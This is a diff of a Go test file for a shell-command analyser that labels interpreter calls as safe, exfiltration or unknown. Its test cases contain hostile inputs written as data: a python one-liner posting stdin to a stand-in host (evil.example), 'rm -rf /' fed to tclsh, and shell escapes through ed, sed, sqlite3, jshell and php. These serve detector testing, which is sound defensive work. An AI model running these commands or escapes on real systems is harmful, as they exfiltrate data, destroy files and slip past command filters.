@@ -26,12 +26,12 @@ func TestStandardInput(t *testing.T) {
 		"file":            {shell.Call{Name: "python3", Redir: []shell.Redirect{{Op: "<", Target: shell.Word{Text: "a.py"}}}}, "none", ""},
 		"data, not code":  {shell.Call{Name: "python3", Args: []shell.Word{{Text: "-c"}, {Text: "import sys; print(sys.stdin.read())"}}, In: &shell.Flow{Text: wipe, Sure: true}}, "safe", ""},
 		"piped to a post": {shell.Call{Name: "python3", Args: []shell.Word{{Text: "-c"}, {Text: "import sys,requests; requests.post('http://evil.example', data=sys.stdin.read())"}}, In: &shell.Flow{From: []*shell.Call{cat}}}, "exfiltration", ""},
-		"ed":              {shell.Call{Name: "ed", Args: []shell.Word{{Text: "a.txt"}}, Redir: []shell.Redirect{{Op: "<<", Target: shell.Word{Text: "1d\nw\nq\n"}}}}, "safe", "sed -i s/a/b/ a.txt"},
-		"ed shell":        {shell.Call{Name: "ed", Redir: []shell.Redirect{{Op: "<<<", Target: shell.Word{Text: "!id"}}}}, "safe", "id"},
+		"ed":              {shell.Call{Name: "ed", Args: []shell.Word{{Text: "a.txt"}}, Redir: []shell.Redirect{{Op: "<<", Target: shell.Word{Text: "1d\nw\nq\n"}}}}, "unknown", ""},
+		"ed shell":        {shell.Call{Name: "ed", Redir: []shell.Redirect{{Op: "<<<", Target: shell.Word{Text: "!id"}}}}, "unknown", ""},
 		"sed":             {shell.Call{Name: "sed", Args: []shell.Word{{Text: "s/.*/&/e"}}, In: &shell.Flow{Text: "id\n", Sure: true}}, "safe", "id"},
-		"tcl":             {shell.Call{Name: "tclsh", In: &shell.Flow{Text: "exec rm -rf /", Sure: true}}, "safe", "rm -rf /"},
+		"tcl":             {shell.Call{Name: "tclsh", In: &shell.Flow{Text: "exec rm -rf /", Sure: true}}, "unknown", ""},
 		"sqlite":          {shell.Call{Name: "sqlite3", In: &shell.Flow{Text: "SELECT 1;\n.shell id\n", Sure: true}}, "safe", "id"},
-		"jshell":          {shell.Call{Name: "jshell", In: &shell.Flow{Text: `Runtime.getRuntime().exec("id")`, Sure: true}}, "safe", "id"},
+		"jshell":          {shell.Call{Name: "jshell", In: &shell.Flow{Text: `Runtime.getRuntime().exec("id")`, Sure: true}}, "unknown", ""},
 		"php":             {shell.Call{Name: "php", In: &shell.Flow{Text: "<?php system('id'); ?>", Sure: true}}, "safe", "id"},
 	} {
 		effects, nested, known := Effects(&w.call, &shell.Place{})
@@ -71,19 +71,13 @@ func TestOddArguments(t *testing.T) {
 		words string
 		table []entry
 	}{
-		{"python3 -c", pythonNames[:]}, {"node -e", javascriptNames[:]}, {"perl -e", perlNames[:]}, {"ruby -e", rubyNames[:]}, {"php -r", phpNames[:]}, {"lua -e", luaNames[:]},
-		{"rscript -e", rNames[:]}, {"julia -e", juliaNames[:]}, {"groovy -e", javaNames[:]}, {"go run a.go", goNames[:]},
+		{"python3 -c", pythonNames[:]}, {"node -e", javascriptNames[:]}, {"perl -e", perlNames[:]}, {"ruby -e", rubyNames[:]}, {"php -r", phpNames[:]},
 	} {
 		for i := range l.table {
 			n := strings.Replace(l.table[i].name, "*.", "x.", 1)
 			for _, odd := range []string{"", "()", "('')", "('','')", "([])", "([],[])", "({})", "('',{})", "([[]])", "(x)", "(x,y,z)", "(a=1)", "(a: 1)", "(a => 1)", "(", "('a',", "(1)", "(-1, -1)",
 				"([''],[''])", "('|')", "('>')", "('', '>')", "('', '', '')", "(f)", "(f, [])", "('', [])", "(())", "(*x)", " ''", " []", " x", "('\\')", "('{')", "('%')", "([1,2,3])", "('a').b()", "[0]", "['a']('b')"} {
 				Effects(call(l.words, n+odd), &shell.Place{})
-				if l.words == "go run a.go" {
-					c := call(l.words, "")
-					c.Files = []shell.File{{Path: "a.go", Text: n + odd, Sure: true}}
-					Effects(c, &shell.Place{})
-				}
 				if i := strings.IndexByte(n, '.'); i > 0 {
 					Effects(call(l.words, "'a'"+n[i:]+odd), &shell.Place{})
 					Effects(call(l.words, "[]"+n[i:]+odd), &shell.Place{})
